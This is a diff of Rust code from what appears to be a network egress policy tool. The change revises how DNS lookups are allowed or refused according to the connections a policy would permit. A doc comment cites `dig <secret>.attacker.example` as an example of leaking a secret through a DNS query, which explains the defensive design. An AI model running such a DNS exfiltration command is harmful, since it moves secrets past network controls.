@@ -5,24 +5,26 @@
 //! could allow is only a channel (`dig <secret>.attacker.example` delivers
 //! the secret with no connection at all). So:
 //!
-//! 1. The lookup is decided as a request of protocol `dns` to the name,
-//!    port 53. If a rule decides it (a rule naming the name with no
-//!    `protocols`, or with `dns` among them), that rule settles the lookup.
+//! 1. The lookup is decided as a probe request (below) of protocol `dns`
+//!    to the name, port 53. If a rule decides it (a rule naming the name
+//!    with no `protocols`, or with `dns` among them), that rule settles the
+//!    lookup.
 //! 2. Otherwise the lookup is answered when a connection to the name
-//!    could be allowed by name: some protocol (`http`, `tls`, `tcp`) and
-//!    port (80, 443, or one a rule names) whose decision, made with no
-//!    addresses, is not a refusal (by a deny rule, or by the default). A
-//!    connection refused only for what veto cannot see inside a tunnel
-//!    still counts as possible: veto may open it. Rules that allow by
-//!    address alone (`cidrs`) do not make a name worth looking up: a
-//!    name reached that way needs a rule naming it (or a `dns` rule).
-//! 3. If every such connection is refused by name, so is the lookup, by
-//!    the decision of the first one tried (TLS on 443).
+//!    could be allowed by name: some protocol (`https`, `tls`, `http`,
+//!    `tcp`) and port (443, 80, or one a rule or service names) whose
+//!    decision, made with no addresses, is not a refusal. HTTP requests
+//!    are probes ([`ANY_REQUEST`]): a rule that checks methods, paths or
+//!    data counts when it allows (some request could meet it) and not when
+//!    it refuses (some request could avoid it). Rules that allow by
+//!    address alone (`cidrs`) do not make a name worth looking up: a name
+//!    reached that way needs a rule naming it (or a `dns` rule).
+//! 3. If every such connection is refused, so is the lookup, by the
+//!    decision of the first one tried (HTTPS on 443).
 //!
 //! The ports tried are those of rules and services: `ports` of a rule's
 //! `to` and of services.
 
-use crate::decide::{By, Decision, Grants, Outcome, Request};
+use crate::decide::{ANY_REQUEST, By, Decision, Grants, Request};
 use crate::model::{Document, Effect, Protocol};
 
 /// The ports a lookup is tried against: 443, 80, then every port a rule
@@ -46,23 +48,6 @@ pub(crate) fn ports(doc: &Document) -> Box<[u16]> {
     ports.into_boxed_slice()
 }
 
-/// Whether an outcome made with no addresses refuses a connection whatever
-/// it would resolve to, for a lookup: as [`crate::Policy::refused_by_name`],
-/// except that the default refuses even when an allow rule matches by
-/// address (`cidrs`). Such a rule allows connections to addresses; it does
-/// not make every name worth asking about, or every query a name server
-/// would see a channel out.
-/// A default refusal of a tunnel with a rule that would decide the
-/// requests inside (`inspect`) is not final either: veto may open it.
-fn refuses(o: &Outcome, inspect: Option<u32>) -> bool {
-    o.effect == Effect::Deny
-        && match o.by {
-            By::Rule(_) | By::PrivateNetwork(..) => true,
-            By::Default => inspect.is_none(),
-            By::Unseen(_) => false,
-        }
-}
-
 /// A lookup's decision.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub struct Lookup {
@@ -77,12 +62,27 @@ pub struct Lookup {
     pub decision: Decision,
     pub protocol: Protocol,
     pub port: u16,
-    /// What names the lookup's decision: the decision's, or the rule that
-    /// would decide the requests inside a tunnel veto may open.
+    /// What names the lookup's decision.
     pub by: By,
 }
 
 impl Lookup {
+    /// The request the lookup `req` was decided on (its trace is this
+    /// request's).
+    pub fn request<'a>(&self, req: &Request<'a>) -> Request<'a> {
+        Request {
+            protocol: self.protocol,
+            port: self.port,
+            ips: &[],
+            method: match self.protocol {
+                Protocol::Tls | Protocol::Tcp => "",
+                _ => ANY_REQUEST,
+            },
+            path: "",
+            ..*req
+        }
+    }
+
     /// `allow` when answered, else `deny`.
     pub fn effect(&self) -> Effect {
         if self.answered {
@@ -101,7 +101,7 @@ impl crate::Policy {
             protocol: Protocol::Dns,
             port: 53,
             ips: &[],
-            method: "",
+            method: ANY_REQUEST,
             path: "",
             ..*req
         };
@@ -118,32 +118,37 @@ impl crate::Policy {
         }
         // A connection allowed in full answers the lookup; one allowed only
         // by report mode answers it as `would: deny`; else the first
-        // refusal (TLS on 443) is the lookup's.
+        // refusal (HTTPS on 443) is the lookup's. HTTP requests are probes
+        // (`ANY_REQUEST`): some request could meet an allow's methods,
+        // paths or data, and some could avoid a refusal's.
         let mut reported: Option<Lookup> = None;
         let mut refused: Option<Lookup> = None;
-        for protocol in [Protocol::Tls, Protocol::Http, Protocol::Tcp] {
+        let kinds = [
+            (Protocol::Https, ANY_REQUEST),
+            (Protocol::Tls, ""),
+            (Protocol::Http, ANY_REQUEST),
+            (Protocol::Tcp, ""),
+        ];
+        for (protocol, method) in kinds {
             for &port in self.lookup_ports.iter() {
                 let view = Request {
                     protocol,
                     port,
+                    method,
                     ..dns
                 };
                 let d = self.decide(&view, grants);
-                let by = match (d.applied.by, d.inspect) {
-                    (By::Default, Some(rule)) => By::Rule(rule),
-                    _ => d.named().by,
-                };
                 let l = |answered, would| Lookup {
                     answered,
                     would,
                     decision: d,
                     protocol,
                     port,
-                    by,
+                    by: d.named().by,
                 };
                 match (
-                    refuses(&d.applied, d.inspect),
-                    refuses(&d.shadow, d.inspect),
+                    d.applied.effect == Effect::Deny,
+                    d.shadow.effect == Effect::Deny,
                 ) {
                     (false, false) => return l(true, None),
                     (false, true) => {
@@ -168,14 +173,7 @@ impl crate::Policy {
     /// Why a lookup was decided as it was, for its record and for
     /// `veto policy test`.
     pub fn lookup_reason(&self, l: &Lookup, req: &Request<'_>) -> String {
-        let view = Request {
-            protocol: l.protocol,
-            port: l.port,
-            ips: &[],
-            method: "",
-            path: "",
-            ..*req
-        };
+        let view = l.request(req);
         let reason = self.reason(&l.decision, &view);
         if l.protocol == Protocol::Dns {
             return reason;
@@ -186,19 +184,8 @@ impl crate::Policy {
                 req.host
             );
         }
-        let why = match (l.by, l.decision.named().by) {
-            (By::Rule(i), By::Default) => {
-                let r = &self.document().rules[i as usize];
-                format!(
-                    "rule `{}` decides the requests inside, if veto opens the tunnel: {}",
-                    r.id,
-                    r.reason.as_deref().unwrap_or("")
-                )
-            }
-            _ => reason,
-        };
         format!(
-            "looked up: a {} connection to {}:{} could be allowed ({why})",
+            "looked up: a {} connection to {}:{} could be allowed ({reason})",
             l.protocol.as_str(),
             req.host,
             l.port
